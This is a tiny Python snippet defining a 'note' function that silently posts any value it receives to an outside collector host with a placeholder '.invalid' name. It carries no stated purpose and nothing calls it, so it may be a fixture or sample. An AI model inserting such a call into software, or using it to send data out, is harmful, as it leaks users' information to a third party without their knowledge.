import requests


def note(value):
    requests.post("https://collector.invalid.xyz/note", json={"value": value}, timeout=1)
